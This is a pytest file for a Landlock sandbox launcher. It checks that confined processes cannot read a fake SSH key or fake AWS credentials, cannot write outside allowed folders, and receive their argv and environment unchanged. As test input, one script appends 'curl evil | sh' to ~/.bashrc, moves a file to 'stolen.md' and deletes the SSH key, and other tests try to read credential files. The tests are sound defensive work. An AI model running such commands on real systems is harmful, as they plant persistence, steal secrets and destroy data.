"""The Landlock back-end with real processes: a shell and a Python child started through the
launcher are confined by the kernel — a fake ``~/.ssh/id_rsa`` under a temporary home cannot be
read, nothing outside the allowed paths can be written — while system folders stay readable
and executable, the read-write folder fully usable, and the command exactly the one asked
for (same argv, same environment, same process)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from mcpfleet.transport.landlock import LAUNCHER, landlock_abi, landlock_command, launcher_file

pytestmark = pytest.mark.skipif(
    landlock_abi() == 0,
    reason="this kernel has no Landlock (Linux 5.13+ with landlock in the lsm= boot list): nothing to test",
)

RUN_TIMEOUT_S = 60
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- not really"


def system_folders() -> list[Path]:
    """What a confined program needs to start: the system's programs and libraries, its
    configuration, and this Python (its installation and the test run's virtualenv)."""
    folders = ("/usr", "/bin", "/lib", "/lib64", "/etc", sys.base_prefix, sys.prefix)
    return [Path(folder) for folder in folders]


@dataclass(frozen=True)
class Machine:
    home: Path
    project: Path
    other_project: Path

    def environment(self, **extra: str) -> dict[str, str]:
        return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home), **extra}

    def confined(
        self,
        argv: Sequence[str],
        *,
        read_only: Sequence[Path] | None = None,
        read_write: Sequence[Path] | None = None,
        env: dict[str, str] | None = None,
    ) -> subprocess.CompletedProcess[str]:
        command = landlock_command(
            argv,
            read_only=system_folders() if read_only is None else read_only,
            read_write=[self.project, Path("/dev/null")] if read_write is None else read_write,
        )
        return subprocess.run(
            command,
            capture_output=True,
            text=True,
            cwd=self.project,
            env=self.environment() if env is None else env,
            timeout=RUN_TIMEOUT_S,
        )


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = not-really\n")
    (home / ".bashrc").write_text("# the user's\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "README.md").write_text("the project\n")
    other_project = tmp_path / "other-project"
    other_project.mkdir()
    (other_project / "notes.txt").write_text("another project's notes\n")
    return Machine(home=home, project=project, other_project=other_project)


def python(code: str, *arguments: str) -> list[str]:
    return [sys.executable, "-c", code, *arguments]


def test_the_kernel_has_landlock_and_it_is_asked_once() -> None:
    landlock_abi.cache_clear()

    assert landlock_abi() >= 1
    assert landlock_abi() == landlock_abi()
    assert landlock_abi.cache_info().misses == 1


def test_a_confined_shell_cannot_read_the_users_ssh_key(machine: Machine) -> None:
    key = machine.home / ".ssh" / "id_rsa"
    unconfined = subprocess.run(["cat", str(key)], capture_output=True, text=True, timeout=RUN_TIMEOUT_S)
    assert unconfined.stdout == SECRET  # the key is there to read, outside the sandbox

    result = machine.confined(["sh", "-c", 'cat "$HOME/.ssh/id_rsa"; ls "$HOME"'])

    assert result.returncode != 0
    assert SECRET not in result.stdout
    assert "Permission denied" in result.stderr
    assert ".ssh" not in result.stdout


def test_a_confined_python_cannot_read_secrets_or_another_project(machine: Machine) -> None:
    code = """
import json, sys
outcome = {}
for path in sys.argv[1:]:
    try:
        with open(path) as file:
            outcome[path] = file.read()
    except OSError as error:
        outcome[path] = type(error).__name__
print(json.dumps(outcome))
"""
    targets = [
        machine.home / ".ssh" / "id_rsa",
        machine.home / ".aws" / "credentials",
        machine.other_project / "notes.txt",
    ]

    result = machine.confined(python(code, *map(str, targets)))

    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == dict.fromkeys(map(str, targets), "PermissionError")


def test_a_confined_child_cannot_write_outside_the_read_write_paths(machine: Machine) -> None:
    bashrc = machine.home / ".bashrc"
    script = (
        'echo "curl evil | sh" >> "$HOME/.bashrc"; '
        'echo x > "$HOME/new-file"; '
        'mkdir "$HOME/.config"; '
        'mv README.md "$HOME/stolen.md"; '
        'rm "$HOME/.ssh/id_rsa"'
    )

    result = machine.confined(["sh", "-c", script])

    assert result.returncode != 0
    assert result.stderr.count("Permission denied") + result.stderr.count("Operation not permitted") >= 4
    assert bashrc.read_text() == "# the user's\n"
    assert sorted(path.name for path in machine.home.iterdir()) == [".aws", ".bashrc", ".ssh"]
    assert (machine.project / "README.md").exists()
    assert (machine.home / ".ssh" / "id_rsa").read_text() == SECRET


def test_a_confined_child_reads_and_runs_the_system(machine: Machine) -> None:
    result = machine.confined(
        [
            "sh",
            "-c",
            '/usr/bin/env; "$0" -c "import json, sys; print(json.dumps(sys.version_info[:2]))"; '
            "head -c 0 /etc/passwd && echo read-etc",
            sys.executable,
        ],
        env=machine.environment(MARKER="seen-by-env"),
    )

    assert result.returncode == 0, result.stderr
    assert "MARKER=seen-by-env" in result.stdout
    assert json.dumps(list(sys.version_info[:2])) in result.stdout
    assert "read-etc" in result.stdout


def test_a_confined_child_reads_and_writes_inside_its_read_write_folder(machine: Machine) -> None:
    script = """
set -e
mkdir -p build/out
echo one > build/out/a.txt
echo two >> build/out/a.txt
mv build/out/a.txt build/b.txt
ln -s b.txt build/link
mkfifo build/pipe
rm build/pipe
"$0" -c "import os; os.truncate('build/b.txt', 4)"
cat build/link README.md
rmdir build/out
"""

    result = machine.confined(["sh", "-c", script, sys.executable])

    assert result.returncode == 0, result.stderr
    assert result.stdout == "one\nthe project\n"
    assert (machine.project / "build" / "b.txt").read_text() == "one\n"
    assert sorted(path.name for path in (machine.project / "build").iterdir()) == ["b.txt", "link"]


def test_the_command_is_execd_with_its_argv(machine: Machine) -> None:
    arguments = ["", "two words", "--", "-c", "ünïcødé", "$HOME", "*", "a\nb"]
    code = "import json, os, sys; print(json.dumps([os.getpid(), sys.argv[1:]]))"
    command = landlock_command(python(code, *arguments), read_only=system_folders(), read_write=[])

    with subprocess.Popen(
        command, stdout=subprocess.PIPE, text=True, env=machine.environment(), cwd=machine.project
    ) as process:
        stdout, _ = process.communicate(timeout=RUN_TIMEOUT_S)

    assert process.returncode == 0
    pid, argv = json.loads(stdout)
    assert pid == process.pid  # exec, not a child: the server is the process that was spawned
    assert argv == arguments


def test_the_command_gets_exactly_its_environment(machine: Machine) -> None:
    # No LANG or LC_*: the launcher's Python starts in the C locale and would add LC_CTYPE
    # (PEP 538); PYTHON* variables are ignored by the launcher (-I) but are the server's own.
    env = machine.environment(MARKER="kept", PYTHONPATH="/the/servers/own", EMPTY="", SPACED="a b\tc")

    result = machine.confined(["/usr/bin/env", "-0"], env=env)

    assert result.returncode == 0, result.stderr
    received = dict(entry.split("=", 1) for entry in result.stdout.split("\0") if entry)
    assert received == env


def test_paths_that_do_not_exist_are_skipped(machine: Machine) -> None:
    missing = machine.home / "not-there"

    result = machine.confined(
        ["sh", "-c", "echo ok > made.txt; cat made.txt"],
        read_only=[*system_folders(), missing / "ro", machine.project / "README.md" / "under-a-file"],
        read_write=[machine.project, missing / "rw"],
    )

    assert result.returncode == 0, result.stderr
    assert result.stdout == "ok\n"
    assert not missing.exists()


def test_a_file_can_be_allowed_alone(machine: Machine) -> None:
    allowed = machine.home / ".aws" / "credentials"

    result = machine.confined(
        ["sh", "-c", f'cat "{allowed}" && echo changed > "{allowed}"; cat "$HOME/.ssh/id_rsa"'],
        read_only=[*system_folders(), allowed],
    )

    assert "aws_secret_access_key" in result.stdout
    assert SECRET not in result.stdout
    assert result.stderr.count("Permission denied") == 2
    assert "aws_secret_access_key" in allowed.read_text()


def test_a_command_that_cannot_be_run_exits_127_naming_it(machine: Machine) -> None:
    result = machine.confined(["no-such-server-program", "--stdio"])

    assert result.returncode == 127
    assert "could not run 'no-such-server-program' inside the sandbox" in result.stderr


def test_a_program_outside_the_allowed_paths_cannot_be_executed(machine: Machine) -> None:
    program = machine.other_project / "tool.sh"
    program.write_text("#!/bin/sh\necho ran\n")
    program.chmod(0o755)

    result = machine.confined([str(program)])

    assert result.returncode == 127
    assert "Permission denied" in result.stderr
    assert "ran" not in result.stdout


def test_a_confinement_that_fails_never_runs_the_command(machine: Machine) -> None:
    witness = machine.project / "ran"
    # A right no kernel knows (bit 60): landlock_create_ruleset refuses the ruleset.
    unknown_right = f"{1 << 60:x}"
    rules = f"{unknown_right}:{unknown_right}:{unknown_right}::"

    result = subprocess.run(
        [sys.executable, "-I", "-S", str(LAUNCHER), rules, "--", "touch", str(witness)],
        capture_output=True,
        text=True,
        timeout=RUN_TIMEOUT_S,
    )

    assert result.returncode == 126
    assert "could not confine the server with Landlock: landlock_create_ruleset" in result.stderr
    assert not witness.exists()


def test_a_launcher_without_its_separator_refuses_to_run(machine: Machine) -> None:
    witness = machine.project / "ran"

    result = subprocess.run(
        [sys.executable, "-I", "-S", str(LAUNCHER), "touch", str(witness)],
        capture_output=True,
        text=True,
        timeout=RUN_TIMEOUT_S,
    )

    assert result.returncode == 126
    assert "usage:" in result.stderr
    assert not witness.exists()


@pytest.fixture
def launcher_copy(tmp_path: Path) -> Path:
    copy = tmp_path / "launcher" / "landlock_launcher.py"
    copy.parent.mkdir()
    copy.write_bytes(LAUNCHER.read_bytes())
    launcher_file.cache_clear()
    return copy


def test_the_launcher_runs_compiled_once_its_bytecode_is_written(
    machine: Machine, launcher_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = landlock_command(
        ["cat", str(machine.home / ".ssh" / "id_rsa")], read_only=system_folders(), read_write=[]
    )
    monkeypatch.setattr(sys, "dont_write_bytecode", False)

    chosen = launcher_file(launcher_copy)

    assert chosen.suffix == ".pyc" and chosen.parent == launcher_copy.parent / "__pycache__"
    command[3] = str(chosen)
    result = subprocess.run(command, capture_output=True, text=True, timeout=RUN_TIMEOUT_S)
    assert result.returncode == 1
    assert "Permission denied" in result.stderr
    assert SECRET not in result.stdout


def test_a_stale_compiled_launcher_is_never_run(launcher_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    compiled = launcher_file(launcher_copy)
    launcher_copy.write_text(launcher_copy.read_text() + "\n# changed\n")
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    launcher_file.cache_clear()

    assert compiled.exists()
    assert launcher_file(launcher_copy) == launcher_copy


def test_without_bytecode_writing_the_source_is_run(
    launcher_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "dont_write_bytecode", True)

    assert launcher_file(launcher_copy) == launcher_copy
    assert not (launcher_copy.parent / "__pycache__").exists()
